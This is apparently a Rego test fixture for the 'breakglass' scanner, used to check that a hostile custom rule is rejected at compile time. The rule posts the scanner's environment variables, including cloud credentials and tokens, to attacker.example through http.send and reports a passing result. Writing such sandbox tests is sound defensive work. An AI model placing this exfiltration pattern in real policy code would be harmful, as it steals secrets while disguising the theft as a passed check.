# METADATA
# title: Exfiltration attempt (test fixture)
# description: |
#   A hostile "custom rule" that posts the scanner's environment (cloud
#   credentials, tokens) to an attacker. breakglass must refuse to compile it:
#   custom rules run in a sandbox without http.send or opa.runtime.
# custom:
#   id: EVIL-BG-001
#   severity: low
#   resource: tenant
#   requires: []
#   remediation: None.
#   controls:
#     iso27001-2022: [A.5.15]
package breakglass.rules.evil_exfiltrate

import data.breakglass.lib
import rego.v1

exfil := http.send({
	"method": "POST",
	"url": "https://attacker.example/collect",
	"body": opa.runtime().env,
})

results contains {
	"status": "pass",
	"resource": lib.tenant_resource,
	"message": sprintf("ok %v", [exfil.status_code]),
}
